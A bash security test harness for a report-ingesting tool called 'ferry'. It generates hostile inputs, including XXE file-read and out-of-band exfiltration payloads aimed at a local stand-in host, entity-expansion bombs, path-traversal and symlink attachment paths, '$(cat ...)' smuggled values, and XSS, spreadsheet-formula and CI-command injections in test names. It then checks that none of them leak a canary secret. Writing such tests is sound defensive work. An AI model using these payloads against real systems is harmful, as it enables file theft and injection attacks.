#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
#
# What has been done to ferry's kin by a report, an answer or a plugin must not be done to ferry: each line of hostile_reports.tsv is one such
# thing, named by where it happened, what is given, the command, its exit codes and what has to hold afterwards. All rows are tried before
# the verdict.
#
#   hostile_reports.sh          all rows
#   hostile_reports.sh NAME...  these rows, with what ferry said
#
# What is opened is seen by strace. Without it, or where it may not trace, the rows still run and the verdict is "skipped".
. "$(dirname "$0")/lib.sh"
INERT=$(realpath "${INERT:-$(dirname "$FERRY")/../tests/scenarios/inert}")
built=$(realpath "$(dirname "$FERRY")/..")
canary="canary-9Kd2-Wq7x-Vn4t"
bad=0 rows=0 untraced=0
every=4 # so many of the documents that a tracker could answer with; FERRY_TORTURE=full: all
[ "${FERRY_TORTURE-}" != full ] || every=1
sanitized=
! grep -qa __asan_init "$FERRY" || sanitized=nothing-of-ours
mkdir -p "$work/outside/sub" "$work/rows"
echo "$canary" >"$work/outside/secret.txt"
cp "$samples/basic.xml" "$work/outside/other.xml"
printf '<!ENTITY x "%s">\n' "$canary" >"$work/outside/evil.dtd"

# --- what is given ---

# report ATTRIBUTES-OF-A-CASE [INSIDE]
one_case() { printf '<testsuite name="a"><testcase classname="c" name="n" %s>%s</testcase></testsuite>\n' "$1" "${2-}"; }
# Who looks at the first bytes alone sees nothing but a remark, and hands the rest to who reads.
remark() { printf '<!-- ' && filler 5000 && echo ' -->'; }
filler() { head -c "$1" /dev/zero | tr '\0' "${2:-a}"; }
xxe() { remark && printf '<!DOCTYPE testsuite [%s]>\n' "$1"; one_case 'file="f"' "<failure message=\"m\">${2-&x;}</failure>"; }
secret=file://$work/outside/secret.txt

given_xxe_file() { xxe "<!ENTITY x SYSTEM \"$secret\">" >r.xml; }
given_at_once() { sed -i '/^<!-- aaa/d' r.xml; }
given_within() { # a second prolog, inside
    one_case 'file="f"' "<!DOCTYPE x [<!ENTITY x SYSTEM \"$secret\">]><system-out>&x;</system-out>" >r.xml
}
given_xxe_path() { xxe "<!ENTITY x SYSTEM \"$work/outside/secret.txt\">" >r.xml; }
given_xxe_beside() { cp "$work/outside/secret.txt" . && xxe '<!ENTITY x SYSTEM "secret.txt">' >r.xml; }
given_xxe_proc() { xxe '<!ENTITY x SYSTEM "file:///proc/self/environ">' >r.xml; }
given_xxe_http() { xxe '<!ENTITY x SYSTEM "http://127.0.0.1:9/secret.txt">' >r.xml; }
given_xxe_ftp() { xxe '<!ENTITY x PUBLIC "-//a//b" "ftp://127.0.0.1:9/secret.txt">' >r.xml; }
given_xxe_parameter() { xxe "<!ENTITY % p SYSTEM \"file://$work/outside/evil.dtd\"> %p;" >r.xml; }
given_xxe_out_of_band() {
    xxe "<!ENTITY % f SYSTEM \"$secret\"><!ENTITY % d SYSTEM \"file://$work/outside/evil.dtd\">%d;<!ENTITY % s \"<!ENTITY x SYSTEM 'http://127.0.0.1:9/?%f;'>\">%s;" >r.xml
}
given_xxe_unparsed() { xxe "<!NOTATION n SYSTEM \"$secret\"><!ENTITY x SYSTEM \"$secret\" NDATA n>" >r.xml; }
given_xxe_attribute() {
    remark >r.xml
    printf '<!DOCTYPE testsuite [<!ENTITY x SYSTEM "%s"><!ATTLIST testcase name CDATA "&#38;x;">]>\n' "$secret" >>r.xml
    echo '<testsuite name="a"><testcase classname="&x;"/></testsuite>' >>r.xml
}
given_external_dtd() { { remark && printf '<!DOCTYPE testsuite SYSTEM "file://%s/outside/evil.dtd">\n' "$work" && one_case 'file="f"' '&x;'; } >r.xml; }
given_public_dtd() { { remark && echo '<!DOCTYPE testsuite PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/evil.dtd">' && one_case 'file="f"' '&x;'; } >r.xml; }
given_xinclude() { one_case 'xmlns:xi="http://www.w3.org/2001/XInclude"' "<failure><xi:include href=\"$secret\" parse=\"text\"/></failure>" >r.xml; }
given_stylesheet() { { printf '<?xml-stylesheet type="text/xsl" href="%s"?>\n' "$secret" && one_case 'file="f"'; } >r.xml; }
given_schema() { one_case "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"$secret\" xml:base=\"file://$work/outside/\"" >r.xml; }
given_utf16() { given_xxe_file && iconv -f UTF-8 -t UTF-16 r.xml >u.xml && mv u.xml r.xml; }
given_utf16_bare() { given_xxe_file && { echo '<?xml version="1.0" encoding="UTF-16BE"?>' && cat r.xml; } | iconv -f UTF-8 -t UTF-16BE >u.xml && mv u.xml r.xml; }
given_utf32() { given_xxe_file && iconv -f UTF-8 -t UTF-32 r.xml >u.xml && mv u.xml r.xml; }
given_utf7() {
    given_xxe_file
    { echo '<?xml version="1.0" encoding="UTF-7"?>' && sed 's/</+ADw-/g; s/>/+AD4-/g; s/&/+ACY-/g' r.xml; } >u.xml
    mv u.xml r.xml
}
given_ebcdic() { given_xxe_file && { echo '<?xml version="1.0" encoding="IBM037"?>' && cat r.xml; } | iconv -f UTF-8 -t IBM037 >u.xml && mv u.xml r.xml; }
given_gzip() { gzip -f r.xml && mv r.xml.gz r.xml; }
given_plist() {
    printf '<?xml version="1.0"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://127.0.0.1:9/p.dtd" [<!ENTITY x SYSTEM "%s">]>\n' "$secret" >r.xml
    echo '<plist version="1.0"><dict><key>TestName</key><string>&x;</string></dict></plist>' >>r.xml
}

# Each of them one that a careless reader answers with gigabytes, minutes or a stack that overflows.
given_laughs() {
    local i
    {
        remark && echo '<!DOCTYPE x [<!ENTITY a0 "ha ha ha ha ha ha ha ha ha ha">'
        for ((i = 1; i < 12; i++)); do
            printf '<!ENTITY a%d "' "$i" && printf "&a$((i - 1));%.0s" 1 2 3 4 5 6 7 8 9 10 && echo '">'
        done
        echo ']><testsuite name="s"><testcase name="a"><system-out>&a11;</system-out></testcase></testsuite>'
    } >r.xml
}
given_laughs_of_parameters() {
    local i
    {
        remark && echo '<!DOCTYPE x [<!ENTITY % a0 "ha ha ha ha ha ha ha ha ha ha">'
        for ((i = 1; i < 12; i++)); do
            printf '<!ENTITY %% a%d "' "$i" && printf "&#37;a$((i - 1));%.0s" 1 2 3 4 5 6 7 8 9 10 && echo "\">%a$i;"
        done
        echo ']>' && one_case 'file="f"'
    } >r.xml
}
given_chain_of_entities() { # each names the next: a recursion as deep as the chain is long
    {
        remark && echo '<!DOCTYPE x [' && seq 1 100000 | awk '{ print "<!ENTITY a" $1 " \"&a" $1 + 1 ";\">" }'
        echo '<!ENTITY a100001 "x">]>' && one_case 'file="f"' '<system-out>&a1;</system-out>'
    } >r.xml
}
given_quadratic() {
    {
        remark && printf '<!DOCTYPE x [<!ENTITY a "' && filler 100000 && echo '">]>'
        printf '<testsuite name="s"><testcase name="a"><system-out>' && yes '&a;' | head -n 50000 | tr -d '\n'
        echo '</system-out></testcase></testsuite>'
    } >r.xml
}
given_big_attribute() { { printf '<testsuite name="a"><testcase name="b" classname="' && filler 8000000 && echo '"/></testsuite>'; } >r.xml; }
given_big_tag() { { printf '<testsuite name="a"><testcase name="b"/><' && filler 8000000 && echo '/></testsuite>'; } >r.xml; }
given_big_comment() { { printf '<testsuite name="a"><testcase name="b"/><!--' && filler 8000000 && echo '--></testsuite>'; } >r.xml; }
given_big_instruction() { { printf '<testsuite name="a"><testcase name="b"/><?' && filler 8000000 && echo '?></testsuite>'; } >r.xml; }
given_big_doctype() { { remark && printf '<!DOCTYPE ' && filler 8000000 && echo '>' && one_case 'file="f"'; } >r.xml; }
given_big_text() { { printf '<testsuite name="a"><testcase name="b"><system-out>' && filler 50000000 && echo '</system-out></testcase></testsuite>'; } >r.xml; }
given_cut_attribute() { { printf '<testsuite name="a"><testcase name="b"/><testcase name="' && filler 8000000; } >r.xml; }
given_many_attributes() { { printf '<testsuite name="a"><testcase name="b"' && seq 1 100000 | awk '{ printf " a%d=\"\"", $1 }' && echo '/></testsuite>'; } >r.xml; }
given_deep() { { printf '<testsuite name="a"><testcase name="b">' && yes '<a>' | head -n 300000 | tr -d '\n'; } >r.xml; }
given_deep_suites() { { yes '<testsuite name="s">' | head -n 100000 | tr -d '\n' && echo '<testcase name="b"/>'; } >r.xml; }
given_bomb() { { printf '<testsuite name="a"><testcase name="b"/>' && filler 60000000 ' ' && echo '</testsuite>'; } | gzip -9 >r.xml; }

# A report that names folders and reports outside; nobody asked for these.
given_named_paths() {
    one_case "file=\"$work/made_by_a_report/x.c\" report=\"$work/outside/other.xml\"" \
        "<properties><property name=\"reports\" value=\"$work/outside/other.xml\"/><property name=\"outputDirectory\" value=\"$work/made_by_a_report\"/></properties>
<system-out>$work/outside/other.xml
[[PROPERTY|report=$work/outside/other.xml]]</system-out>" >r.xml
    sed -i "s|<testsuite |<testsuite file=\"$work/made_by_a_report/y.c\" package=\"../../made_by_a_report\" id=\"$work/outside/other.xml\" |" r.xml
}

# A folder "in" with a report that attaches these: each is one form of a path to something outside.
attachment_forms() {
    local out=$work/outside/secret.txt here=$PWD/in
    cat <<END
../outside.txt
../../../outside/secret.txt
sub/../../outside.txt
sub/../../../../outside/secret.txt
./.././outside.txt
$out
/$out
$here/../outside.txt
${here}-evil/secret.txt
/proc/self/root$out
/proc/self/cwd/outside.txt
/proc/self/environ
/proc/self/fd/0
/dev/zero
/dev/stdin
link_to_file
link_to_link
link_to_folder/secret.txt
link_to_folder/../outside/secret.txt
link_to_root$out
link_to_proc
link_to_proc_folder/environ
link_to_zero
link_up/outside.txt
pipe
socket_or_none
.
..
sub
sub/
link_to_file/
file://$out
file://localhost$out
FILE://$out
file:$out
file://%2e%2e/outside.txt
http://127.0.0.1:9/secret.txt
%2e%2e/outside.txt
%2e%2e%2foutside.txt
..%2foutside.txt
%252e%252e%252foutside.txt
..%c0%afoutside.txt
..\\outside.txt
..\\..\\..\\outside\\secret.txt
\\\\localhost\\share\\secret.txt
C:$out
‥/outside.txt
．．/outside.txt
..／outside.txt
....//outside.txt
..././outside.txt
.../outside.txt
..;/outside.txt
 ../outside.txt
../outside.txt 
../outside.txt?x=.png
../outside.txt#.png
../outside.txt&#0;.png
../outside.txt&#10;.png
~/secret.txt
\$HOME/secret.txt
\${HOME}/secret.txt
\$(cat $out)
|cat $out
@$out
good.txt;$out
END
    printf '../%.0s' {1..600} && printf '%s\n' "${out#/}"
    filler 5000 && printf '/../../outside.txt\n'
}
given_attachments() {
    local form n=0
    mkdir -p in/sub in-evil
    echo "$canary" >outside.txt
    cp outside.txt in-evil/secret.txt
    cp outside.txt "$work/home/secret.txt"
    echo 'may be seen' >in/good.txt
    echo 'may be seen, too' >in/sub/good.txt
    ln -s "$work/outside/secret.txt" in/link_to_file
    ln -s link_to_file in/link_to_link
    ln -s "$work/outside" in/link_to_folder
    ln -s / in/link_to_root
    ln -s /proc/self/environ in/link_to_proc
    ln -s /proc/self in/link_to_proc_folder
    ln -s /dev/zero in/link_to_zero
    ln -s .. in/link_up
    mkfifo in/pipe
    {
        echo '<testsuite name="a">'
        while IFS= read -r form; do
            n=$((n + 1))
            printf '<testcase name="out %d"><system-out>\n[[ATTACHMENT|%s]]\n</system-out></testcase>\n' "$n" "$form"
            printf '<testcase name="property %d"><properties><property name="attachment" value="%s"/></properties></testcase>\n' "$n" "$form"
        done < <(attachment_forms)
        echo '<testcase name="good"><system-out>'
        printf '[[ATTACHMENT|%s]]\n' good.txt sub/good.txt "$PWD/in/good.txt"
        echo '</system-out></testcase></testsuite>'
    } >in/r.xml
    forms=$n
}
given_hard_link() {
    mkdir in && ln "$work/outside/secret.txt" in/hard.txt
    one_case 'file="f"' '<system-out>[[ATTACHMENT|hard.txt]]</system-out>' >in/r.xml
}
given_roots_out() {
    given_attachments
    printf '{"attachments": {"roots": ["%s"]}}' "$work/outside" >ferry.json
}
given_roots_up() { given_attachments && echo '{"attachments": {"roots": ["in/../.."]}}' >ferry.json; }
given_roots_by_link() { given_attachments && echo '{"attachments": {"roots": ["in/link_to_folder"]}}' >ferry.json; }

# A tracker with a secret; what it answers is called by the secret.
given_tracker() {
    cp "$samples/keyed.xml" r.xml
    environment+=("FERRY_PLUGIN_PATH=$built/tests/plugins")
    printf '{"trackers": {"t": {"plugin": "echo", "project": "P", "mood": "%s", "token": "%s"}}}\n' "$1" "$2" >ferry.json
}
given_token_in_config() { given_tracker parrot "$canary"; }
# shellcheck disable=SC2016 # the variable is for ferry to expand
given_token_in_variable() {
    given_tracker parrot '${ANY_TOKEN}'
    environment+=("ANY_TOKEN=$canary" "ECHO_TOKEN=$canary")
}
# shellcheck disable=SC2016
given_token_in_dotenv() { given_tracker parrot '${ANY_TOKEN}' && echo "ANY_TOKEN=$canary" >.env && chmod 600 .env; }
given_token_in_url() {
    given_tracker parrot "$canary"
    sed -i "s|\"mood\"|\"url\": \"https://u:$canary@127.0.0.1:9/\", \"mood\"|" ferry.json
}
given_token_in_report() {
    given_token_in_variable
    {
        printf '<testsuite name="env %s">' "$canary"
        printf '<testcase name="login %s" classname="c"><failure message="token=%s" type="t">%s</failure>' "$canary" "$canary" "$canary"
        printf '<system-out>ANY_TOKEN=%s\n</system-out><properties><property name="env" value="%s"/></properties></testcase></testsuite>\n' "$canary" "$canary"
    } >r.xml
}

# JSON that made a parser read past its end, follow NULL, or eat the stack.
# Each in a file of json/.
# shellcheck disable=SC1003 # strings that end in a backslash are meant
hostile_json() {
    local document n=0
    mkdir json
    for document in '{"1":1,' '{"1":1,"' '[1,' '"' '"\' '"\u' '"\ud8' '"\ud83d\u' '{"a":"\ud800"}' '{"a":"\udc00\ud800"}' '{"\u0000":1}' '{"a":"x\u0000y"}' \
        '{' '{"a"' '{"a":' '{"a":1' '{"a":1,}' '{,}' '[' ']' '[]]' '{}{}' '/*' '//' '{"a":1/*' $'\xef\xbb\xbf{' $'\xff\xfe{}' '-' '1e' '1e400' \
        '{"a":-9223372036854775809}' '{"a":1e99999999}' '{"a":0x10}' '{"a":NaN}' '{"a":tru' '{"a":null,"a":{}}' $'{"a":"\x01"}' $'{"a":"\xc0\xaf"}' ' ' ''; do
        n=$((n + 1))
        printf '%s' "$document" >"json/$n"
    done
    filler 100000 '[' >json/brackets
    yes '{"a":' | head -n 100000 | tr -d '\n' >json/braces
    { printf '{"a":' && filler 100000 9 && echo '}'; } >json/digits
    { printf '{"' && filler 1000000 && echo '":1}'; } >json/name
    { printf '{"a":"' && filler 1000000 '\\'; } >json/backslashes
}
given_json_config() { hostile_json; }
given_json_answer() { given_tracker strange x && hostile_json; }

# The plugin of bad-plugins that leaves a witness when any code of it runs.
evil=$built/tests/bad-plugins/good.so
given_plugin_anywhere() {
    local name
    cp "$samples/basic.xml" r.xml
    mkdir -p plugins lib .ferry/plugins
    for name in junit local mirror upload good libferry; do
        cp "$evil" "$name.so" && cp "$evil" "plugins/$name.so" && cp "$evil" "lib/lib$name.so" && cp "$evil" ".ferry/plugins/$name.so"
    done
    environment+=("FERRY_TEST_WITNESS=$PWD/witness" LD_LIBRARY_PATH=":/nowhere")
}
given_plugin_path() { given_plugin_anywhere && environment+=("FERRY_PLUGIN_PATH=$1"); }
given_plugin_path_relative() { given_plugin_path "plugins:.:./lib::"; }
given_plugin_path_up() { given_plugin_path "../plugin_path_up/plugins"; }
given_plugin_writable() { given_plugin_path "$PWD/plugins" && chmod 777 plugins; }
given_plugin_below_writable() { given_plugin_path "$PWD/open/plugins" && mkdir open && mv plugins open && chmod 777 open; }
given_plugin_file_writable() { given_plugin_path "$PWD/plugins" && chmod 666 plugins/*.so; }
given_plugin_link() { given_plugin_path "$PWD/links" && mkdir links && ln -s "$PWD/plugins/good.so" links/good.so; }
given_plugin_config() { given_plugin_anywhere && printf '{"plugins": {"folders": ["%s"]}}' "$PWD/plugins" >ferry.json; }
given_plugin_config_inside() { given_plugin_anywhere && echo '{"plugins": {"folders": ["plugins"]}}' >ferry.json; }
given_plugin_name() { given_plugin_anywhere && printf '{"trackers": {"t": {"plugin": "%s", "project": "P"}}}' "$PWD/plugins/good.so" >ferry.json; }
given_plugin_own() { given_plugin_path "$PWD/plugins" && rm plugins/[!g]*.so; }

# One report whose test is called by this.
named() { printf '<testsuite name="a"><testcase classname="c" name="%s"/></testsuite>\n' "$1" >r.xml; }
given_named_script() { named "');alert(1)//&lt;script&gt;alert(1)&lt;/script&gt;"; }
given_named_link() { named 'javascript:alert(1) http://127.0.0.1:9/?x=&lt;img src=x onerror=alert(1)&gt;'; }
given_named_formula() { named "=cmd|' /C calc'!A0"; }
given_named_command() { named 'x&#10;::set-env name=PATH::/evil&#10;::add-mask::a'; }
given_named_escape() { named '&#x9b;31m&#x85;x&#13;y&#10;forged: line'; }

# --- how it runs ---

# Opens, sockets and programs as strace sees them; in $trace. Leaks cannot be looked for meanwhile.
traced() {
    local around
    mapfile -d '' around < <(surroundings)
    last="$* (traced)" rc=0
    env "${around[@]}" ASAN_OPTIONS="${ASAN_OPTIONS-}:detect_leaks=0" timeout -k 5 120 \
        strace -f -qq -s 300 -o "$trace" -e trace=open,openat,openat2,connect,socket,execve,prctl,prlimit64 \
        "$FERRY" "$@" >"$work/out" 2>"$work/err" </dev/null || rc=$?
}
# In 64 MiB of address space, so in less of memory; a sanitizer needs more than there is.
within() {
    if [ -n "$sanitized" ]; then
        ferry "$@"
        return
    fi
    (ulimit -v 65536 && ferry "$@"; echo "$rc" >"$work/rc")
    rc=$(cat "$work/rc") last="$* (in 64 MiB)"
}
# As ferry() does, many times in the same surroundings.
again() {
    rc=0
    env "${around[@]}" "$FERRY" "$@" >"$work/out" 2>"$work/err" </dev/null || rc=$?
}
# A config of each document, or an answer that is one.
each_document() {
    local document worst=0 around
    mapfile -d '' around < <(surroundings)
    for document in json/*; do
        cp "$document" ferry.json
        again "$@"
        [ "$rc" -eq 0 ] || [ "$rc" -eq 2 ] || worst=$rc
        ! grep -qa Sanitizer "$work/err" || worst=200
    done
    rc=$worst last="$* (many times)"
}
each_answer() {
    local document worst=0 n=0 tried=0 around
    mapfile -d '' around < <(surroundings)
    for document in json/*; do
        n=$((n + 1))
        # As a string of ferry.json, so no bytes that are no text, and not too long for one.
        if [ $((n % every)) -ne 0 ] || [ ! -s "$document" ] || [ "$(stat -c %s "$document")" -gt 200000 ] ||
            ! iconv -f UTF-8 -t UTF-8 "$document" >"$work/text" 2>/dev/null; then
            continue
        fi
        printf '{"trackers": {"t": {"plugin": "echo", "project": "P", "mood": "strange", "say": %s}}}\n' "$(jq -Rs . "$work/text")" >ferry.json
        tried=$((tried + 1))
        again "$@" --state "s$n"
        # Nothing came of it, and nothing is lost: 8; documents that are JSON all the same say nothing about the things: 8, too.
        [ "$rc" -eq 8 ] || worst=$((100 + rc))
        ! grep -qa Sanitizer "$work/err" || worst=200
    done
    [ "$tried" -gt 5 ] || worst=1
    rc=$worst last="$* ($tried times)"
}

# --- what has to hold: check_NAME, 0 where it does ---

both() { cat "$work/out" "$work/err"; }
# Nothing that the report names was opened, and no socket made.
check_unopened() {
    [ -s "$trace" ] || return 0 # could not be traced, which is told at the end
    # A sanitizer looks into the environment by itself.
    ! grep -E "(open|openat|openat2)\\(.*(outside|secret\\.txt|evil\\.dtd|${sanitized:-environ}|made_by)|(socket|connect)\\(" "$trace"
}
check_hidden() { ! both | grep -F "$canary"; }
check_told() { both | grep -E 'warning|error' >/dev/null; }
check_not_made() { [ -z "$(find "$work" -name 'made_by*')" ]; }
check_results() { jq -e '.totals.tests > 0' "$work/out" >/dev/null; }
# Of all the forms nothing got in, each is told, and the good ones are there.
check_spool_clean() {
    local refused
    ! grep -rlF "$canary" .ferry || return 1
    refused=$(grep -cE 'attachment-(outside|missing|kind|name|address|size|unreadable)' "$work/err")
    echo "$forms forms of a path in two ways, $refused refused by name" >"$work/forms"
    # What is an address stays a property.
    [ "$refused" -ge $((2 * forms - 6)) ] && [ "$(find .ferry/spool .ferry/local/blobs -type f -printf '%f\n' | sort -u | wc -l)" -eq 2 ] &&
        grep -rlF 'may be seen' .ferry >/dev/null && grep -rlF 'may be seen, too' .ferry >/dev/null
}
check_opened_good() { [ ! -s "$trace" ] || grep -F 'good.txt' "$trace" | grep -v ' = -1 ' >/dev/null; }
# A hard link is the file itself: nobody can tell. Whether a user may make one to a file of others is the system's to say.
check_hard_link_taken() { grep -rlF "$canary" .ferry >/dev/null; }
check_no_canary() {
    local file
    check_hidden || return 1
    while IFS= read -r -d '' file; do
        ! grep -qaF "$canary" "$file" || {
            echo "the canary is in $file"
            return 1
        }
    done < <(find . "$work/home" -type f ! -name r.xml ! -name ferry.json ! -name .env ! -name '*.txt' -print0)
}
check_asked() { both | grep -F '***' >/dev/null; } # so the canary did come by
check_no_program() { [ ! -s "$trace" ] || [ "$(grep -c 'execve(' "$trace")" -eq 1 ]; }
# Before anything is read that could hold a secret.
check_hardened() {
    [ -s "$trace" ] && [ -z "$sanitized" ] || return 0
    awk '/RLIMIT_CORE, \{rlim_cur=0/ { core = 1 } /PR_SET_DUMPABLE, (SUID_DUMP_DISABLE|0)\)/ { dump = 1 }
        /ferry\.json|\.env"/ { exit } END { exit !(core && dump) }' "$trace"
}
check_no_witness() { [ -z "$(find "$work" -name 'witness*')" ]; }
check_witness() { [ -n "$(find . -name 'witness*')" ]; }
check_links() { ! ldd "$FERRY" "$built"/plugins/*.so | grep -i cjson_utils; }
check_inert() {
    cp "$work/out" "$work/judged.json" && "$INERT" "$work/judged.json" >"$work/judge" &&
        cat "$work/err" >"$work/judged" && "$INERT" "$work/judged" >>"$work/judge"
}
check_inert_text() { both >"$work/judged" && "$INERT" "$work/judged" >"$work/judge"; }
# What is called so is called so, to the letter: nothing is changed on its way to where it will be shown.
check_verbatim() {
    local want got
    want=$(called)
    got=$(export_of AO | jq -r '.results[0].title // .results[0].name')
    [ "$got" = "$want" ] || {
        printf 'wanted %q, got %q\n' "$want" "$got"
        return 1
    }
}
called() { sed -nE 's/.*classname="c" name="([^"]*)".*/\1/p' r.xml | sed "s/&lt;/</g; s/&gt;/>/g; s/&#10;/\n/g; s/&#13;/\r/g; s/&#x9b;/\xc2\x9b/g; s/&#x85;/\xc2\x85/g"; }

# --- one row ---

wrong() {
    printf '%s (%s): %s\n$ ferry %s\nexit code %s\n' "$name" "$kin" "$1" "$last" "$rc"
    head -n 20 "$work/out" | cut -c 1-300 | sed 's/^/stdout: /'
    head -n 20 "$work/err" | cut -c 1-300 | sed 's/^/stderr: /'
    bad=$((bad + 1))
}

row() {
    local given check arguments=()
    environment=() trace=$work/trace forms=0
    rm -f "$trace"
    mkdir -p "$work/rows/$name/.git"
    cd "$work/rows/$name" || exit 1
    for given in ${givens//+/ }; do
        "given_$given"
    done
    eval "arguments=($command)"
    if [ "$runner" = traced ] && [ -z "$can_trace" ]; then
        untraced=$((untraced + 1))
        ferry "${arguments[@]}"
    else
        "$runner" "${arguments[@]}"
    fi
    [[ $rc =~ ^($codes)$ ]] || wrong "wanted exit code $codes"
    ! grep -qaE 'Sanitizer|runtime error' "$work/err" || wrong "wanted no word of a sanitizer"
    for check in ${checks//+/ }; do
        [ "$check" = - ] || "check_$check" >"$work/found" || {
            sed 's/^/found: /' "$work/found" | cut -c 1-400
            wrong "wanted \"$check\""
        }
    done
    [ -z "$chosen" ] || { both | cut -c 1-400 | sed "s/^/$name: /" && cat "$work/forms" 2>/dev/null; }
    cd "$work" || exit 1
    [ -n "$chosen" ] || rm -rf "$work/rows/$name"
}

can_trace=
if command -v strace >/dev/null && strace -f -o "$work/try" true 2>/dev/null; then
    can_trace=1
fi
chosen=$*
while IFS=$'\t' read -r name kin givens runner command codes checks; do
    case $name in '#'* | '') continue ;; esac
    if [ -z "$chosen" ] || [[ " $chosen " = *" $name "* ]]; then
        rows=$((rows + 1))
        row
    fi
done <"$scenarios/hostile_reports.tsv"
[ ! -s "$work/forms" ] || cat "$work/forms"
echo "$rows rows, $bad wrong, $untraced not traced"
[ "$rows" -gt 0 ] && [ "$bad" -eq 0 ] || exit 1
[ "$untraced" -eq 0 ] || {
    echo "skipped: strace is not installed or may not trace here, so nobody saw what was opened"
    exit 77
}
